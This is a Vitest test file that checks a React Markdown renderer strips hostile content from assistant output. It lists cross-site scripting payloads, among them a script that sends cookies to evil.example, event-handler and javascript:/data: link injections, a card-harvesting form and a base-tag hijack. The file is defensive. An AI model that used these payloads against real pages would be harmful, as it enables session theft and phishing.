import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown.tsx";

const render = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

/** What a model might be talked into writing, whole and cut anywhere. */
const HOSTILE = [
  '<script>fetch("//evil.example/" + document.cookie)</script>',
  '<img src=x onerror="alert(1)">',
  "<svg onload=alert(1)><use href='//evil.example/x.svg#a'></use></svg>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "[누르기](javascript:alert(1))",
  "[누르기](JaVa\tScRiPt:alert(1))",
  "[누르기](data:text/html,<script>alert(1)</script>)",
  "[누르기](vbscript:msgbox)",
  "[누르기]: javascript:alert(1)\n\n[누르기]",
  "<javascript:alert(1)>",
  "![그림](https://evil.example/pixel.png)",
  '<a href="https://evil.example" onclick="alert(1)">누르기</a>',
  '<form action="https://evil.example"><input name="card"></form>',
  "<style>body{display:none}</style>",
  "<base href='https://evil.example/'>",
];

describe("words of the assistant", () => {
  it.each(HOSTILE)("can do nothing: %s", (text) => {
    for (const cut of [text.length, text.length - 1, Math.ceil(text.length / 2)]) {
      const html = render(`앞 ${text.slice(0, cut)} 뒤`) + render(text.slice(0, cut));
      // Between tags everything is only words.
      const tags = (html.match(/<[^>]*>/g) ?? []).join("");
      expect(html).not.toMatch(/<(?:script|img|svg|iframe|form|input|style|base|object|embed|link|meta)/i);
      expect(tags).not.toMatch(/\son\w+=/i);
      expect(tags).not.toMatch(/(?:href|src)="\s*(?:javascript|data|vbscript):/i);
      expect(tags).not.toMatch(/(?:src|srcset)=/i);
    }
  });

  it("may lead elsewhere, to a page that learns nothing about ours", () => {
    expect(render("[문서](https://example.com/a)")).toContain(
      '<a href="https://example.com/a" target="_blank" rel="noreferrer noopener">문서</a>',
    );
  });
});
